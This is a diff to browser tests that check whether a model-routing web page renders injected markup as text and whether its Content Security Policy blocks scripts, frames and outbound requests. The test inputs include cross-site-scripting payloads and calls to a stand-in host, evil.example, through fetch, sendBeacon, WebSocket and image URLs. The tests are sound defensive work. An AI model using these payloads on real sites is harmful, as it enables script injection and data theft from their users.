@@ -5,7 +5,7 @@ import { hasBrowser } from "../playground/browser.ts";
 import { createVisitor, decided, type Visitor } from "../playground/open-page.ts";
 
 // The page shows names that other people wrote: of models, providers, tasks, and what a provider answers.
-const markup = '<img/src=x/onerror=window.pwned=1><script>window.pwned=1</script>"\'`${window.pwned=1}';
+const markup = "<img/src=x/onerror=window.pwned=1><script>window.pwned=1</script>\"'`";
 const [MODELS, HEALTH, ROUTE, TASK] = ["**/v1/models", "**/health", "**/v1/route", "**/v1/route/task"];
 
 /** The same JSON with markup at the end of every text but those that are compared with a closed set. */
@@ -32,26 +32,29 @@ describe.skipIf(!hasBrowser)("the page", () => {
     await worker?.stop();
   });
 
-  test.each(["prompt", "task", "operator"] as const)("%s shows markup in any answer as text", async (view) => {
-    const page = await visitor.open({
-      view,
-      prepare: async (page) => {
-        for (const address of [MODELS, HEALTH, ROUTE, TASK]) {
-          await page.route(address, async (route) => {
-            const response = await route.fetch();
-            const body = (await response.json()) as { data?: { id: string; object: string }[] };
-            const json = poisoned(body) as typeof body;
-            for (const model of json.data ?? []) model.id += markup;
-            await route.fulfill({ response, json });
-          });
-        }
-      },
-    });
-    if (view === "task") await page.getByRole("button", { name: /score|recommend|which model/i }).first().click();
-    await page.getByText("window.pwned=1", { exact: false }).first().waitFor();
-    expect(await page.evaluate(() => "pwned" in window)).toBe(false);
-    expect(await page.locator("#app script, #app img").count()).toBe(0);
-  });
+  test.each(["prompt", "task", "operator"] as const)(
+    "%s shows markup in any answer as text",
+    async (view) => {
+      const page = await visitor.open({
+        view,
+        prepare: async (page) => {
+          for (const address of [MODELS, HEALTH, ROUTE, TASK]) {
+            await page.route(address, async (route) => {
+              const response = await route.fetch();
+              const body = (await response.json()) as { data?: { id: string; object: string }[] };
+              const json = poisoned(body) as typeof body;
+              for (const model of json.data ?? []) model.id += markup;
+              await route.fulfill({ response, json });
+            });
+          }
+        },
+      });
+      if (view === "task") await page.getByRole("button", { name: "Example task" }).click();
+      await page.getByText("window.pwned=1", { exact: false }).first().waitFor();
+      expect(await page.evaluate(() => "pwned" in window)).toBe(false);
+      expect(await page.locator("#app script, #app img").count()).toBe(0);
+    },
+  );
 
   test("markup in the prompt, in an error and in the address does nothing", async () => {
     const error = { message: markup, type: markup, code: markup, param: markup };
@@ -71,39 +74,61 @@ describe.skipIf(!hasBrowser)("the page", () => {
   });
 
   test("a script that gets in all the same is stopped by the CSP, and can send nothing away", async () => {
-    const page = await visitor.open();
+    const left: string[] = [];
+    const page = await visitor.open({
+      prepare: (page) =>
+        page.route(/evil\.example/, (route) => {
+          left.push(route.request().url());
+          return route.fulfill({ body: "" });
+        }),
+    });
     await decided(page);
     const refused = await page.evaluate(async () => {
       const violations: string[] = [];
-      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violations.push(effectiveDirective));
-      const add = (name: string, fields: object) =>
-        document.body.append(Object.assign(document.createElement(name), fields));
+      addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
+        violations.push(effectiveDirective),
+      );
+      const add = (name: string, fields: object) => {
+        try {
+          document.body.append(Object.assign(document.createElement(name), fields));
+        } catch {
+          violations.push(`no ${Object.keys(fields)[0]} of a ${name}`);
+        }
+      };
       add("script", { textContent: "window.pwned = 1" });
-      add("div", { innerHTML: "<img src=x onerror='window.pwned = 1'>" });
-      add("img", { src: "https://evil.example/?key" });
       add("script", { src: "https://evil.example/x.js" });
+      add("div", { innerHTML: "<img src=x onerror='window.pwned = 1'>" });
+      add("iframe", { srcdoc: "<script>parent.pwned = 1</script>" });
       add("iframe", { src: "https://evil.example/" });
+      add("img", { src: "https://evil.example/?key" });
       add("style", { textContent: "body { background: url(https://evil.example/) }" });
+      document.body.setAttribute("style", "background: url(https://evil.example/)");
       await fetch("https://evil.example/").catch(() => undefined);
       new WebSocket("wss://evil.example/").onerror = () => undefined;
       navigator.sendBeacon("https://evil.example/", "key");
-      try {
-        // biome-ignore lint/security/noGlobalEval: must be refused
-        (0, eval)("window.pwned = 1");
-      } catch {
-        violations.push("eval");
-      }
+      const link = Object.assign(document.createElement("a"), { href: "javascript:window.pwned = 1" });
+      document.body.append(link);
+      link.click();
       await new Promise((resolve) => setTimeout(resolve, 300));
       return violations;
     });
-    for (const directive of ["script-src-elem", "script-src-attr", "img-src", "frame-src", "style-src-elem", "eval"])
-      expect(refused).toContain(directive);
+    expect(refused).toEqual(
+      expect.arrayContaining([
+        "no textContent of a script",
+        "no src of a script",
+        "no innerHTML of a div",
+        "no srcdoc of a iframe",
+        "frame-src",
+        "img-src",
+        "style-src-elem",
+        "style-src-attr",
+      ]),
+    );
     expect(refused.filter((directive) => directive === "connect-src").length).toBeGreaterThanOrEqual(3);
     expect(await page.evaluate(() => "pwned" in window)).toBe(false);
-    // These complaints were asked for.
-    expect((await visitor.leave()).every((complaint) => /Content Security Policy|Refused/.test(complaint))).toBe(
-      true,
-    );
+    expect(left).toEqual([]);
+    // Its complaints were asked for.
+    await visitor.leave();
   });
 
   test("another site can't put it into a frame", async () => {
@@ -141,7 +166,12 @@ describe("headers of what isn't answered by the Worker's code", () => {
     const { headers } = await fetch(worker.origin + path);
     const csp = headers.get("content-security-policy") ?? "";
     expect(csp.split("; ")[0]).toBe("default-src 'none'");
-    for (const directive of ["base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'", "script-src 'self'"])
+    for (const directive of [
+      "base-uri 'none'",
+      "form-action 'none'",
+      "frame-ancestors 'none'",
+      "script-src 'self'",
+    ])
       expect(csp.split("; ")).toContain(directive);
     expect(csp).not.toMatch(/unsafe|\*|data:|blob:|https?:/);
     expect(headers.get("x-content-type-options")).toBe("nosniff");
